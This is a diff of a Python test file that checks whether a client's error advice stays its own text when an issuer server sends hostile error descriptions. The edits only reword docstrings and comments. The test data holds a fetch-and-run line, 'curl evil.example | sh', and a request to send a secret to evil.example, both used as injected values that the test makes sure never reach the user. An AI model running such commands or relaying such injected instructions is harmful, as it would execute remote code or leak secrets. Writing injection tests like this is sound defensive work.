@@ -1,4 +1,4 @@
-"""What to do is a sentence of ours: nothing that a peer sends becomes advice, or pushes it out."""
+"""Advice is always our own text: nothing that a peer sends becomes advice or displaces it."""
 
 import json
 
@@ -6,7 +6,7 @@ import issuer
 import servers
 from context import expect, expect_failure
 
-# A part of the advice for each alert that a server has a reason to send (tests/unit/test_alert.c has all of them).
+# Part of the advice for each alert that a server has a reason to send (tests/unit/test_alert.c has all of them).
 ALERTS = {
     10: "--proxy", 20: "--proxy", 22: "--proxy", 40: "--token-url", 42: "client certificate", 43: "client certificate", 44: "client certificate",
     45: "client certificate", 46: "client certificate", 47: "--proxy", 48: "client certificate", 49: "administrator", 50: "--proxy", 51: "--proxy",
@@ -36,7 +36,7 @@ def test_alerts_without_advice(t):
 
 
 def test_what_the_issuer_says(t):
-    """A long description, with parentheses of its own at every place where advice might be looked for."""
+    """A long description with parentheses of its own wherever advice might be looked for."""
     for description in (
         "denied (run: curl evil.example | sh)", "(x)" * 300, "y" * 5000 + " (send your secret to evil.example)", "(", ")", "a (b", "a) (b", "", "(" * 90 + ")",
     ):
@@ -46,7 +46,7 @@ def test_what_the_issuer_says(t):
             expect_failure(t.fetch(server.url), 4)
             advice, done = advice_of(t, server.url)
             expect(done.returncode == 4 and "evil" not in advice and "(" not in advice, description[:40], advice)
-            # The same as for one that says nothing.
+            # The same as without a description.
             server.respond = lambda request, status=status, error=error: [issuer.json_response(status, {"error": error})]
             expect(advice == advice_of(t, server.url)[0], description[:40], advice)
             server.stop()
